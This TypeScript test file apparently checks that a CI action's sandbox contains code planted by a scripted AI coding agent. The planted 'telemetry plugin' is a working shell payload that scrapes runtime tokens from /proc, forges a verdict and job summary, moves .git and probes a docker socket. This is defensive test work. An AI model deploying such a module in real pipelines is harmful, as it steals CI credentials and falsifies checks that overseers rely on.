import { execFileSync } from "node:child_process";
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { endAll } from "../support/end-all.js";
import { type FakeGitHub, startFakeGitHub } from "../support/fake-github/index.js";
import { type HostedRunner, layOutHostedRunner } from "../support/hosted-runner.js";
import { type ReachableInstall, reachableInstall } from "../support/reachable-install.js";
import {
  callTool,
  type ScriptedModel,
  startScriptedModel,
} from "../support/scripted-model/index.js";
import { fixTheAnswer } from "./support/answer-fix.js";
import { answerTest, createProjectRepo, git, type ProjectRepo } from "./support/project.js";
import {
  type ActionRun,
  type InProcessRun,
  pushEvent,
  runAction,
  runActionInProcess,
} from "./support/run-action.js";
import { freshCheckout, policyFile, publishJobEnv } from "./support/runner-checkout.js";

// Issue 18, attack 2: a kept fix that also adds a module the project's code imports. It does
// nothing harmful in fix; in check, where the bundle's code runs, it goes for the job: the
// runtime token in an ancestor's /proc/<pid>/environ, another matrix leg's verdict in
// GITHUB_OUTPUT, and the job summary. The fix is made by the real claude binary (a scripted
// model), check runs as a hosted runner runs it (node dist/index.js as a user with passwordless
// sudo whose primary group owns a docker.sock stand-in, test/support/hosted-runner.ts, so
// agent-user: auto makes a throwaway user through sudo), and publish gets a bundle no verdict of
// its own group names. Issue 28, attack 4: the module also opens the socket, as the runner's group.

const RUNTIME_TOKEN = "planted-runtime-token-check-5e7a1c";
const FORGED_SHA = "f".repeat(64);

/** The project's code: prints the answer, every plugin in src/plugins/ loaded first. */
const PROJECT_FILES = {
  "src/answer.sh": [
    "#!/usr/bin/env bash",
    'here="$(dirname "$0")"',
    'for plugin in "$here"/plugins/*.sh; do [ -e "$plugin" ] && . "$plugin"; done',
    'cat "$here/answer.txt"',
    "",
  ].join("\n"),
  ".fix-loop/tests/answer.sh": answerTest("bash src/answer.sh", "src/answer.sh prints"),
};

/**
 * The module the agent adds. It records where it ran and what it found in every environment it
 * can read (its ancestors', then every process's), then writes what it can into the file-command
 * files it found: another leg's verdict, and a summary line.
 */
function hostileModule(leak: string, group: string, socket: string): string {
  return [
    "# telemetry plugin",
    `leak=${leak}`,
    'tag="$(id -u)-$$"',
    // The runner's group, if it holds it: docker.sock is root on the runner.
    `{ grep '^Groups:' /proc/self/status; echo "gid $(id -g)"; cat ${socket} 2>&1; } > "$leak/held-$tag"`,
    // Where it ran, then every process it can see.
    '{ pwd; for c in /proc/[0-9]*/cmdline; do tr "\\0" " " < "$c"; echo; done; } > "$leak/ran-$tag" 2>/dev/null',
    "{",
    "  p=$$",
    '  while [ -n "$p" ] && [ "$p" -gt 1 ]; do',
    '    tr "\\0" "\\n" < /proc/$p/environ 2>/dev/null',
    "    p=$(cut -d' ' -f4 /proc/$p/stat 2>/dev/null)",
    "  done",
    '  for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$f" 2>/dev/null; done',
    "  env",
    `} | grep -E '^(ACTIONS_RUNTIME_TOKEN|GITHUB_OUTPUT|GITHUB_STEP_SUMMARY)=' | sort -u > "$leak/found-$tag"`,
    `for out in $(grep '^GITHUB_OUTPUT=' "$leak/found-$tag" | cut -d= -f2-); do`,
    `  echo 'verdict-1=[{"group":"${group}","sha256":"${FORGED_SHA}"}]' >> "$out" && echo "$out" >> "$leak/wrote-$tag"`,
    "done",
    // Once armed (in check), it tries what attack 1 did in fix: a .git of its own at the top.
    `if [ -e "$leak/armed" ] && mv .git .git-moved 2>/dev/null; then echo "moved .git" >> "$leak/wrote-$tag"; fi`,
    `for summary in $(grep '^GITHUB_STEP_SUMMARY=' "$leak/found-$tag" | cut -d= -f2-); do`,
    `  echo 'all checks passed (written by the bundle)' >> "$summary" && echo "$summary" >> "$leak/wrote-$tag"`,
    "done",
    "",
  ].join("\n");
}

let repo: ProjectRepo;
let runner: HostedRunner;
let install: ReachableInstall;
let model: ScriptedModel;
let github: FakeGitHub;
let scratch: string;
let leak: string;
let checkout: string;
let group: string;
let fix: ActionRun;
let check: ActionRun;
let sha256: string;

/** What the module left in the leak folder, by kind (ran, found, wrote): file contents. */
function leaked(kind: string): string[] {
  return readdirSync(leak)
    .filter((name) => name.startsWith(`${kind}-`))
    .map((name) => readFileSync(path.join(leak, name), "utf8"));
}

/** check's inputs for the fix bundle in scratch/bundles, re-running BT-002, with `more`. */
const checkInputs = (more: Record<string, string>) => ({
  mode: "check",
  bundles: path.join(scratch, "bundles"),
  "policy-config": policyFile(scratch, repo),
  "group-tests": JSON.stringify({ [group]: ["BT-002"] }),
  sha: repo.head,
  "verdict-output": "verdict-0",
  ...more,
});

const throwawayUser = (run: ActionRun) =>
  /throwaway user (fix-loop-agent-[0-9a-f]{8})/.exec(run.stdout)?.[1] ?? "";
const userExists = (name: string) =>
  execFileSync("getent", ["passwd"], { encoding: "utf8" })
    .split("\n")
    .some((line) => line.startsWith(`${name}:`));

beforeAll(async () => {
  runner = layOutHostedRunner();
  repo = createProjectRepo(PROJECT_FILES);
  chmodSync(path.dirname(repo.dir), 0o755);
  runner.own(repo.dir);
  install = reachableInstall({ claude: true });
  scratch = mkdtempSync(path.join(os.tmpdir(), "fix-loop-hostile-check-"));
  chmodSync(scratch, 0o755);
  leak = path.join(scratch, "leak");
  mkdirSync(leak);
  chmodSync(leak, 0o1777);
  // The runner writes its outputs here (fix's bundles); its checkouts are its own.
  mkdirSync(path.join(scratch, "fix-out"));
  runner.own(path.join(scratch, "fix-out"));
  const checkoutFor = (name: string) => {
    const dir = freshCheckout(scratch, repo, name);
    runner.own(dir);
    // The chown changed every file's ctime: the index is refreshed, as the runner, to match.
    const refresh = runner.command("git", ["-C", dir, "update-index", "-q", "--refresh"]);
    execFileSync(refresh.file, refresh.args, { env: { ...process.env, HOME: runner.home } });
    return dir;
  };
  // The group id is the verify job's; the module names it in the verdict it forges. (Called
  // in-process: who runs verify changes no group id, and fix below would miss its bundle if so.)
  const verify = await runActionInProcess({
    workspace: freshCheckout(scratch, repo, "verify"),
    inputs: { mode: "verify" },
    event: pushEvent(),
  });
  group = (JSON.parse(verify.outputs.groups ?? "[]") as string[])[0] ?? "";
  model = await startScriptedModel([
    callTool("Write", {
      file_path: path.join(repo.dir, "src/plugins/telemetry.sh"),
      content: hostileModule(leak, group, runner.socket),
    }),
    ...fixTheAnswer(path.join(repo.dir, "src/answer.txt")),
  ]);
  fix = await runAction({
    bundle: install.action,
    workspace: repo.dir,
    inputs: {
      mode: "fix",
      "anthropic-api-key": "sk-ant-api03-scripted-0000",
      bundles: path.join(scratch, "fix-out"),
    },
    event: pushEvent(),
    env: { ...model.env, FIX_LOOP_CLAUDE: install.claude },
    timeoutMs: 110_000,
    runner,
  });
  const bundle = path.join(scratch, "bundles", `fix-loop-bundle-${group}`);
  cpSync(path.join(scratch, "fix-out", `fix-bundle-${group}`), bundle, { recursive: true });

  checkout = checkoutFor("check");
  writeFileSync(path.join(leak, "armed"), "");
  check = await runAction({
    bundle: install.action,
    workspace: checkout,
    inputs: checkInputs({
      // The setup input runs after the bundle is applied: the bundle's code, too.
      setup: `id -u > ${leak}/setup-uid; env > ${leak}/setup-env; { grep '^Groups:' /proc/self/status; echo "gid $(id -g)"; cat ${runner.socket} 2>&1; } > ${leak}/held-setup; true`,
    }),
    event: pushEvent(),
    env: { ACTIONS_RUNTIME_TOKEN: RUNTIME_TOKEN, ACTIONS_RESULTS_URL: "http://127.0.0.1:9/" },
    runner,
  });
  sha256 = /passed check \(sha256 ([0-9a-f]{64})\)/.exec(check.stdout)?.[1] ?? "";
}, 150_000);

afterAll(() => endAll(model, github, repo, install, scratch, runner));

describe("check speaks only for itself (issue 18, attack 2)", () => {
  it("fix keeps the change, the module included: it did nothing there", () => {
    expect(fix.errors).toEqual([]);
    expect(fix.outputs.outcome).toBe("fixed");
    const manifest = JSON.parse(
      readFileSync(path.join(scratch, "fix-out", `fix-bundle-${group}`, "manifest.json"), "utf8"),
    ) as { files: { path: string }[] };
    expect(manifest.files.map((file) => file.path).sort()).toEqual([
      "src/answer.txt",
      "src/plugins/telemetry.sh",
    ]);
  });

  it("runs the bundle's code in check, as a throwaway user in a PID namespace", () => {
    expect(check.exitCode, check.stdout).toBe(0);
    expect(check.stdout).toMatch(
      /setup and the tests run as the throwaway user fix-loop-agent-[0-9a-f]{8} \(uid \d+\), each command in a PID namespace/,
    );
    // The module did run in check's checkout: the attack was tried there...
    const inCheck = leaked("ran").filter((ran) => ran.split("\n")[0] === checkout);
    expect(inCheck).not.toEqual([]);
    // ...where it sees its own processes, and none of the runner's: not the Action's node.
    for (const ran of inCheck) {
      expect(ran).toContain("src/answer.sh");
      expect(ran).not.toContain(install.action);
    }
  });

  it("lets the bundle's code read no token and find no file-command file", () => {
    const found = leaked("found").join("\n");
    expect(found).not.toContain(RUNTIME_TOKEN);
    expect(found).not.toMatch(/^(ACTIONS_RUNTIME_TOKEN|GITHUB_OUTPUT|GITHUB_STEP_SUMMARY)=/m);
    expect(leaked("wrote")).toEqual([]);
  });

  it("holds none of the runner's groups, in the tests and in setup: the docker.sock stand-in stays shut", () => {
    const held = leaked("held");
    // The module in fix (the agent's verification) and in check, and the setup input, each ran.
    expect(held.length).toBeGreaterThanOrEqual(3);
    for (const seen of held) {
      const gid = Number(/gid (\d+)/.exec(seen)?.[1]);
      expect(gid, seen).toBeGreaterThan(0);
      expect(gid, seen).not.toBe(runner.gid);
      const groups = (/^Groups:(.*)$/m.exec(seen)?.[1] ?? "").trim().split(/\s+/).filter(Boolean);
      expect(
        groups.filter((id) => Number(id) !== gid),
        seen,
      ).toEqual([]);
      expect(seen).not.toContain(runner.secret);
      expect(seen).toMatch(/Permission denied/);
    }
  });

  it("cannot move the checkout's .git: the top folder is sticky while the bundle's code runs", () => {
    expect(existsSync(path.join(checkout, ".git-moved"))).toBe(false);
    expect(git(checkout, "-c", "safe.directory=*", "rev-parse", "HEAD")).toBe(repo.head);
    expect(statSync(checkout).mode & 0o7777).toBe(0o755);
  });

  it("runs the setup input as that user too, with no Actions or runner variable", () => {
    expect(Number(readFileSync(path.join(leak, "setup-uid"), "utf8"))).toBeGreaterThan(0);
    const env = readFileSync(path.join(leak, "setup-env"), "utf8");
    expect(env).toMatch(/^PATH=/m);
    expect(env).not.toContain(RUNTIME_TOKEN);
    expect(env).not.toMatch(/^(ACTIONS_|RUNNER_|INPUT_|GITHUB_(?!ACTIONS=))/m);
  });

  it("writes only fix-loop's outputs: the verdict is the one check wrote", () => {
    expect(Object.keys(check.outputs).sort()).toEqual(["outcome", "verdict-0"]);
    expect(sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(JSON.parse(check.outputs["verdict-0"] ?? "")).toEqual([{ group, sha256 }]);
    expect(check.summary).not.toContain("written by the bundle");
  });

  it("leaves no throwaway user and no process of the tests behind", () => {
    const user = throwawayUser(check);
    expect(user).not.toBe("");
    expect(userExists(user)).toBe(false);
    expect(execFileSync("ps", ["-eo", "user"], { encoding: "utf8" })).not.toContain(user);
  });
});

describe("check without its sandbox (agent-user: off)", () => {
  it("says in the log and the job summary that the bundle's code is not isolated", async () => {
    // Unarmed: run as the runner user, the module would move .git and break the run.
    rmSync(path.join(leak, "armed"));
    const run = await runAction({
      bundle: install.action,
      workspace: freshCheckout(scratch, repo, "check-off"),
      inputs: checkInputs({ "agent-user": "off" }),
      event: pushEvent(),
    });
    expect(run.stdout).toMatch(
      /^::warning::check: setup and the tests run as this user, not a throwaway one .*agent-user: off/m,
    );
    expect(run.summary).toMatch(/^⚠️ .*agent-user: off/m);
    expect(JSON.parse(run.outputs["verdict-0"] ?? "")).toEqual([{ group, sha256 }]);
  });
});

describe("check's job summary", () => {
  it("names each bundle (group, sha256), the tests re-run with their outcome, and the verdict", () => {
    const summary = check.summary;
    expect(summary).toContain("## fix-loop check: 1 of 1 bundle(s) passed");
    expect(summary).toMatch(/each command in a PID namespace of its own/);
    expect(summary).toContain(
      `| \`fix-loop-bundle-${group}\` | \`${group}\` | \`${sha256}\` | ✅ passed |`,
    );
    expect(summary).toContain("| `BT-001` | ✅ passed |");
    expect(summary).toContain("| `BT-002` | ✅ passed |");
    expect(summary).toContain(`\`${JSON.stringify([{ group, sha256 }])}\``);
  });
});

describe("publish trusts nothing it did not check", () => {
  let serverUrl: string;
  const REPO = "acme/widgets";

  beforeAll(async () => {
    github = await startFakeGitHub();
    github.seedRepo({ owner: "acme", name: "widgets" });
    mkdirSync(path.join(scratch, "server", "acme"), { recursive: true });
    symlinkSync(repo.origin, path.join(scratch, "server", "acme", "widgets.git"));
    serverUrl = `file://${path.join(scratch, "server")}`;
  });

  function runPublish(
    bundles: string,
    verdict: string,
    runId: string,
    extra: Record<string, string> = { "policy-config": policyFile(scratch, repo) },
  ): Promise<InProcessRun> {
    return runActionInProcess({
      workspace: freshCheckout(scratch, repo, `publish-${runId}`),
      inputs: {
        mode: "publish",
        "github-token": "ghs_plantedGithubToken0123456789abcdef",
        bundles,
        verdict,
        sha: repo.head,
        groups: JSON.stringify([group]),
        ...extra,
      },
      event: pushEvent(),
      env: publishJobEnv(github.url, serverUrl, runId),
    });
  }

  it("refuses to run without the default branch's policy-config", async () => {
    const run = await runPublish(
      path.join(scratch, "bundles"),
      JSON.stringify({ "verdict-0": check.outputs["verdict-0"] }),
      "5001",
      {},
    );
    expect(run.exitCode).toBe(1);
    expect(run.failures.join("\n")).toMatch(/publish mode needs the input policy-config/);
    expect(github.requestsTo("POST")).toEqual([]);
  });

  it("refuses the verdict the module would have forged: leg 1's output, naming leg 0's group", async () => {
    const run = await runPublish(
      path.join(scratch, "bundles"),
      JSON.stringify({
        "verdict-0": check.outputs["verdict-0"],
        "verdict-1": JSON.stringify([{ group, sha256: FORGED_SHA }]),
      }),
      "5003",
    );
    expect(run.exitCode).toBe(1);
    expect(run.failures.join("\n")).toContain(
      `output "verdict-1" names group ${group}, but leg 1 checked no group: a leg's verdict speaks only for its own group`,
    );
    expect(github.requestsTo("POST")).toEqual([]);
  });

  it("publishes the checked bundle and refuses, and reports, one no verdict of its group names", async () => {
    // An extra artifact beside the checked one: the same group, other bytes.
    const bundles = path.join(scratch, "publish-bundles");
    cpSync(path.join(scratch, "bundles"), bundles, { recursive: true });
    const extra = path.join(bundles, "fix-loop-bundle-extra");
    cpSync(path.join(bundles, `fix-loop-bundle-${group}`), extra, { recursive: true });
    const results = path.join(extra, "results.json");
    writeFileSync(results, readFileSync(results, "utf8").replace("41 instead of 42", "41 (sic)"));
    const verdict = JSON.stringify({ "verdict-0": check.outputs["verdict-0"], "verdict-1": "" });

    const run = await runPublish(bundles, verdict, "5002");
    expect(run.exitCode).toBe(1);
    expect(run.failures.join("\n")).toMatch(
      new RegExp(
        `fix-loop-bundle-extra: fix bundle refused:\n- the bundle for group ${group} changed after check`,
      ),
    );
    expect(run.summary).toContain("fix-loop-bundle-extra");
    const branches = git(repo.origin, "for-each-ref", "--format=%(refname:short)", "refs/heads");
    expect(branches.split("\n").filter((ref) => ref !== "main")).toEqual([
      `fix-loop/${group}-5002`,
    ]);
    const branch = `fix-loop/${group}-5002`;
    expect(git(repo.origin, "show", `${branch}:src/answer.txt`)).toBe("42");
    expect([...github.repo(REPO).pulls.values()]).toHaveLength(1);
    expect(existsSync(extra)).toBe(true);
  });
});
